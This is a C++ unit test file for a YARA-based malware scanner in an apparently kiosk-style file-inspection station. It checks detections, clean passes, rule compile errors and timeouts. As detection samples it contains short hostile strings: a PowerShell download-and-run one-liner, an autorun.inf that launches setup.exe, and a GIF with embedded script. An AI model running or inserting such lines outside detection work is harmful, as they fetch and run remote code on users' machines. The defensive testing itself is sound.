// SPDX-License-Identifier: MIT
// The real libyara, locked in, with the rules that come with the station.
#include "kiosk/broker/ask/yara.h"
#include "kiosk/core/base/memory_file.h"

#include <filesystem>
#include <fstream>
#include <gtest/gtest.h>

using policy::ScanState;

static const std::string shipped_rules = SEKISHO_SOURCE "/scanners/yara/rules";

static broker::Workers& workers()
{
    static broker::Workers the_workers(SEKISHO_LIBEXEC, { { "scanners-yara", { shipped_rules } } });
    return the_workers;
}

static policy::ScanFacts scan(std::string_view bytes)
{
    auto file = base::sealed_memory_file("input", base::view_of(bytes)).take();
    return broker::ask_yara(workers(), {}, file);
}

static std::string only_finding(std::string_view bytes)
{
    auto facts = scan(bytes);
    EXPECT_EQ(facts.state, ScanState::Found) << facts.detail;
    return facts.findings.empty() ? "" : facts.findings[0];
}

TEST(Yara, FindsWhatTheShippedRulesName)
{
    EXPECT_EQ(only_finding("[AutoRun]\r\nopen=setup.exe\r\n"), "autorun:autorun_inf");
    EXPECT_EQ(
        only_finding("GIF89a....<script>alert(1)</script>"), "polyglots:image_with_script_inside");
    EXPECT_EQ(only_finding("IEX (New-Object Net.WebClient).DownloadString('http://x')"),
        "droppers:powershell_download_and_run");
    EXPECT_EQ(only_finding("[InternetShortcut]\nURL=file://server/share"),
        "autorun:internet_shortcut_to_file");
}

TEST(Yara, PassesOrdinaryText)
{
    auto facts = scan("open the valve, then read [AutoRun] in the manual\n");
    EXPECT_EQ(facts.state, ScanState::Clean) << facts.detail;
    EXPECT_EQ(scan("").state, ScanState::Clean);
}

TEST(Yara, ARuleThatDoesNotCompileStopsTheEngine)
{
    auto folder = std::filesystem::temp_directory_path() / ("yara-" + std::to_string(getpid()));
    std::filesystem::create_directory(folder);
    std::ofstream(folder / "good.yar") << "rule good { condition: false }";
    std::ofstream(folder / "bad.yar") << "rule bad { condition: nonsense }";
    broker::Workers broken(SEKISHO_LIBEXEC, { { "scanners-yara", { folder.string() } } });
    auto file = base::sealed_memory_file("input", base::view_of("text")).take();
    auto facts = broker::ask_yara(broken, {}, file);
    EXPECT_EQ(facts.state, ScanState::NoAnswer);
    EXPECT_NE(facts.detail.find("bad.yar:1"), std::string::npos) << facts.detail;
    std::filesystem::remove(folder / "bad.yar");
    broker::Workers repaired(SEKISHO_LIBEXEC, { { "scanners-yara", { folder.string() } } });
    EXPECT_EQ(broker::ask_yara(repaired, {}, file).state, ScanState::Clean);
    std::filesystem::remove_all(folder);
}

TEST(Yara, TimeRunningOutIsNotClean)
{
    auto folder
        = std::filesystem::temp_directory_path() / ("yara-slow-" + std::to_string(getpid()));
    std::filesystem::create_directory(folder);
    std::ofstream(folder / "slow.yar")
        << "rule slow { condition: for all i in (1..2000000000) : (uint8(i % 100) == 0x61) }";
    broker::Workers slow(SEKISHO_LIBEXEC, { { "scanners-yara", { folder.string() } } });
    std::string text(1000, 'a');
    auto file = base::sealed_memory_file("input", base::view_of(text)).take();
    worker::Limits limits;
    limits.time = std::chrono::milliseconds(2000);
    auto facts = broker::ask_yara(slow, limits, file);
    std::filesystem::remove_all(folder);
    EXPECT_TRUE(facts.state == ScanState::Incomplete || facts.state == ScanState::NoAnswer);
}

TEST(Yara, TellsHowManyRulesItRuns)
{
    auto engine = broker::ask_yara_engine(workers());
    ASSERT_TRUE(engine) << engine.error().message;
    EXPECT_TRUE(engine.value().ready);
    EXPECT_EQ(engine.value().definitions, "15 rules");
}
